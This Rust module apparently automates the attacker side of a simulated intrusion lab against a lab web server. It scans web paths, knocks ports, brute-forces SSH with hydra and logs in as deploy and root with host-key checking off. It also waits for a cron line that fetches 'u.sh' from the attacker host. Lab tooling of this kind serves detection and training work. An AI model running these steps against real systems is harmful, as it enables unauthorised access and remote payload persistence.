//! The attacker's hands: carries out the steps that `attack` lists.

use super::accounts::DEPLOY;
use super::attack::{Act, Step};
use super::lab::{ATTACKER, Lab, Place, WEB};
use super::program::{attempt, run, wait_until};
use super::scanner;
use super::terminal::Terminal;
use jiff::Timestamp;
use std::thread::sleep;
use std::time::Duration;

/// The attacker's host with the session that is open.
pub struct Attacker<'lab> {
    lab: &'lab Lab,
    terminal: Option<Terminal>,
}

impl<'lab> Attacker<'lab> {
    /// An attacker without a session.
    pub fn new(lab: &'lab Lab) -> Attacker<'lab> {
        Attacker { lab, terminal: None }
    }

    /// Waits for the moment at which a step fits.
    pub fn await_moment(&self, step: &Step) {
        let is_early = || (4..40).contains(&(Timestamp::now().as_second() % 60));
        while matches!(step.act, Act::TypeEarlyInMinute(_)) && !is_early() {
            sleep(Duration::from_millis(500));
        }
    }

    /// Carries out one step.
    pub fn perform(&mut self, step: &Step) -> Result<(), String> {
        match &step.act {
            Act::ScanWeb => self.scan_web(),
            Act::KnockPorts => self.knock_ports(),
            Act::GuessPasswords => self.guess_passwords(),
            Act::LogInWithPassword => self.log_in(&["sshpass", "-p", DEPLOY, "ssh"], "deploy"),
            Act::LogInWithKey => {
                self.terminal.take().map_or(Ok(()), Terminal::leave)?;
                sleep(Duration::from_secs(4));
                let key = self.lab.folder.join("attacker").display().to_string();
                self.log_in(&["ssh", "-i", &key], "root")
            }
            Act::Type(lines) | Act::TypeEarlyInMinute(lines) => self.type_lines(lines),
            Act::Request(requests) => self.request(requests),
            Act::AwaitCron => self.await_cron(),
        }
    }

    /// Closes what is open, as the attacker would at the end.
    pub fn leave(mut self) -> Result<(), String> {
        self.terminal.take().map_or(Ok(()), Terminal::leave)
    }

    fn scan_web(&self) -> Result<(), String> {
        let mut curl = self.lab.command(Place::Attacker, "curl");
        curl.args(["-s", "--path-as-is", "--rate", "300/m", "-A", scanner::AGENT]);
        for path in scanner::PATHS {
            curl.args(["-o", "/dev/null", &format!("http://{WEB}{path}")]);
        }
        run(&mut curl).map(drop)
    }

    fn knock_ports(&self) -> Result<(), String> {
        for port in scanner::CLOSED_PORTS {
            let target = format!("telnet://{WEB}:{port}");
            attempt(self.lab.command(Place::Attacker, "curl").args([
                "-s",
                "--connect-timeout",
                "1",
                &target,
            ]));
        }
        Ok(())
    }

    fn guess_passwords(&self) -> Result<(), String> {
        self.lab.write_here("accounts.txt", scanner::ACCOUNTS)?;
        self.lab.write_here("passwords.txt", scanner::PASSWORDS)?;
        let mut hydra = self.lab.command(Place::Attacker, "hydra");
        hydra.current_dir(&self.lab.folder).args([
            "-I",
            "-f",
            "-t",
            "4",
            "-L",
            "accounts.txt",
            "-P",
            "passwords.txt",
        ]);
        let found = run(hydra.arg(format!("ssh://{WEB}")))?;
        match found.contains("login: deploy") {
            true => Ok(()),
            false => Err(format!("hydra did not find the weak password: {found}")),
        }
    }

    fn log_in(&mut self, program: &[&str], account: &str) -> Result<(), String> {
        let mut command = self.lab.command(Place::Attacker, program[0]);
        command.args(&program[1..]).args(["-tt", "-F", "/dev/null", "-o", "StrictHostKeyChecking=no"]);
        command.args([
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "LogLevel=ERROR",
            &format!("{account}@{WEB}"),
        ]);
        self.terminal =
            Some(Terminal::open(command, &self.lab.folder.join(format!("screen-attacker-{account}")))?);
        Ok(())
    }

    fn type_lines(&mut self, lines: &[&str]) -> Result<(), String> {
        let terminal = self.terminal.as_mut().ok_or("there is no open session to type into")?;
        for line in lines {
            terminal.type_line(line)?;
            sleep(Duration::from_millis(2300));
        }
        Ok(())
    }

    fn request(&self, requests: &[&[&str]]) -> Result<(), String> {
        for request in requests {
            let mut curl = self.lab.command(Place::Attacker, "curl");
            curl.args(["-fsS", "-o", "/dev/null", "-A", "python-requests/2.31.0"]).args(*request);
            run(&mut curl)?;
            sleep(Duration::from_millis(1500));
        }
        Ok(())
    }

    fn await_cron(&self) -> Result<(), String> {
        let line = format!("CMD (curl -fsS http://{ATTACKER}/u.sh");
        wait_until("the attacker's cron job", Duration::from_secs(130), || {
            self.lab.read_web("/var/log/auth.log").is_ok_and(|log| log.contains(&line))
        })?;
        sleep(Duration::from_secs(1));
        Ok(())
    }
}
